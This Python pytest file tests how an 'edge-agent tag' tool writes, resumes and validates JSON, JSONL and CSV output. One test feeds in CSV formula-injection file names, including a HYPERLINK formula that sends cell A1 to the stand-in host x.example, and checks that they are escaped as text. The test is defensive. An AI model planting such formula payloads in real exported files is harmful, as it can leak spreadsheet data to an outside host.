"""The output file of ``edge-agent tag`` on real files: resume sets, a line cut short, item order, JSON's work
file. Records here are hand-made (the CLI tests run the model)."""

from __future__ import annotations

import csv
import json
import pathlib
from typing import Any

import pytest

from agent.errors import BatchError
from agent.tooling.batch.items import CSV_COLUMNS, OutputFormat
from agent.tooling.batch.output import OutputFile, work_path


def record(item: str, verdict: str = "pass") -> dict[str, Any]:
    path, _, frame = item.partition("#frame=")
    return {"item": item, "path": path, "frame": int(frame) if frame else None, "width": 8, "height": 6,
            "verdict": verdict, "decided_by": "prefilter", "tags": [],
            "prefilter": {"model": "m@1", "latency_ms": 1.5},
            "escalation": {"status": "not_needed", "reason": None, "model": None, "latency_ms": None,
                           "description": None}}


def write(out: pathlib.Path, fmt: OutputFormat, items: list[str], redo: bool = False, finish: bool = True
          ) -> OutputFile:
    output = OutputFile.open(out, fmt, redo)
    output.start()
    for item in items:
        if item not in output.done or redo:
            output.write(record(item))
    if finish:
        output.finish()
    else:
        output.close()
    return output


def items_in(out: pathlib.Path, fmt: OutputFormat) -> list[str]:
    if fmt == "json":
        return [r["item"] for r in json.loads(out.read_text())]
    if fmt == "jsonl":
        return [json.loads(line)["item"] for line in out.read_text().splitlines()]
    with out.open(newline="") as fh:
        rows = list(csv.reader(fh))
    assert tuple(rows[0]) == CSV_COLUMNS
    return [r[0] for r in rows[1:]]


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "json"])
def test_items_added_between_runs_end_up_in_item_order(tmp_path: pathlib.Path, fmt: OutputFormat) -> None:
    out = tmp_path / f"tags.{fmt}"
    write(out, fmt, ["b.png", "v.avi#frame=30"])
    again = write(out, fmt, ["a.png", "b.png", "v.avi#frame=5", "v.avi#frame=30"])
    assert set(again.done) == {"b.png", "v.avi#frame=30"}  # read back, not tagged again
    # frame 5 before 30: numbers, not strings; every item once
    assert items_in(out, fmt) == ["a.png", "b.png", "v.avi#frame=5", "v.avi#frame=30"]
    assert not work_path(out).exists()


@pytest.mark.parametrize("fmt", ["jsonl", "json"])
def test_a_line_cut_short_is_dropped_and_redone(tmp_path: pathlib.Path, fmt: OutputFormat) -> None:
    out = tmp_path / f"tags.{fmt}"
    write(out, fmt, ["a.png"], finish=False)
    written = work_path(out) if fmt == "json" else out
    with written.open("a") as fh:
        fh.write(json.dumps(record("b.png"))[:40])  # a process killed mid-write
    output = OutputFile.open(out, fmt, redo=False)
    assert set(output.done) == {"a.png"}
    write(out, fmt, ["a.png", "b.png"])
    assert items_in(out, fmt) == ["a.png", "b.png"]


def test_a_csv_row_cut_short_is_dropped_and_redone(tmp_path: pathlib.Path) -> None:
    out = tmp_path / "tags.csv"
    write(out, "csv", ["a.png"], finish=False)
    with out.open("a") as fh:
        fh.write("b.png,b.png,,8,6,pa")
    assert set(OutputFile.open(out, "csv", redo=False).done) == {"a.png"}
    write(out, "csv", ["a.png", "b.png"])
    assert items_in(out, "csv") == ["a.png", "b.png"]


def test_interrupted_json_keeps_its_work_file_and_the_old_output(tmp_path: pathlib.Path) -> None:
    out = tmp_path / "tags.json"
    write(out, "json", ["a.png", "c.png"])
    before = out.read_bytes()
    write(out, "json", ["a.png", "b.png", "c.png", "d.png"], finish=False)  # interrupted: JSON not rewritten
    assert out.read_bytes() == before
    assert [json.loads(line)["item"] for line in work_path(out).read_text().splitlines()] == ["b.png", "d.png"]
    resumed = write(out, "json", ["a.png", "b.png", "c.png", "d.png"])
    assert set(resumed.done) == {"a.png", "b.png", "c.png", "d.png"}
    assert items_in(out, "json") == ["a.png", "b.png", "c.png", "d.png"]


def test_redo_replaces_the_output(tmp_path: pathlib.Path) -> None:
    out = tmp_path / "tags.json"
    write(out, "json", ["a.png", "b.png"])
    output = write(out, "json", ["b.png"], redo=True)
    assert output.done == {}
    assert items_in(out, "json") == ["b.png"]


@pytest.mark.parametrize(("content", "fmt", "message"), [
    ('[{"item": "a.png"}]', "json", "is not a tag output edge-agent can resume"),  # a record without a verdict
    ("[1, 2", "json", "is not a tag output edge-agent can resume"),                 # not JSON
    ('{"item": "a.png", "verdict": "pass"}\n', "jsonl", "not a tag output"),          # no escalation status
    ('{"item": "a.png"}\n', "csv", "holds jsonl records, but csv was asked for"),
])
def test_outputs_that_cannot_be_resumed_are_refused(tmp_path: pathlib.Path, content: str, fmt: OutputFormat,
                                                    message: str) -> None:
    out = tmp_path / "tags.out"
    out.write_text(content)
    with pytest.raises(BatchError, match=message):
        OutputFile.open(out, fmt, redo=False)
    assert out.read_text() == content


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text_and_read_back_as_they_were(
        tmp_path: pathlib.Path) -> None:
    from agent.tooling.batch.output import read_records

    out = tmp_path / "tags.csv"
    hostile = ['=HYPERLINK("http://x.example/?"&A1,"open").png', "+cmd.png", "@SUM(1+1).png", "-2+3.png"]
    write(out, "csv", ["b.png"])
    again = write(out, "csv", [*hostile, "b.png"])
    assert set(again.done) == {"b.png"}
    with out.open(newline="") as fh:
        cells = [cell for row in list(csv.reader(fh))[1:] for cell in row]
    # OWASP: no cell starts with = + - @ tab or CR; a number such as -0.5 would stay as it is
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {f"'{h}" for h in hostile} <= set(cells)
    assert sorted(r["item"] for r in read_records(out, "csv")) == sorted([*hostile, "b.png"])
    resumed = OutputFile.open(out, "csv", redo=False)  # a third run finds every item done, by its real name
    assert set(resumed.done) == {*hostile, "b.png"}
